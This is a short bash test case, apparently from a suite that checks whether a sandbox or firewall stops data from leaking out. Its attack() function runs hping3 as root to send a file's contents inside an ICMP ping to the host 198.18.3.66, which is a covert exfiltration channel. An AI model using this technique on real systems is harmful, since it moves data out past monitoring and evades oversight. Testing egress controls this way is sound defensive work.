# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='hping3: data in pings'
origin='hping3 (Debian)'
reason='protocol'
who=root
HPING=$TOOLS/hping3/usr/sbin/hping3
prepare() { [ -x "$HPING" ] || skip "no hping3 in $TOOLS"; }
attack() {
    echo "$1" > "$T/hping.word"
    client env LD_LIBRARY_PATH="$(printf '%s:' "$TOOLS"/libtcl8.6/usr/lib/*/)" "$HPING" -q -1 -c 1 -d 40 -E "$T/hping.word" 198.18.3.66
}
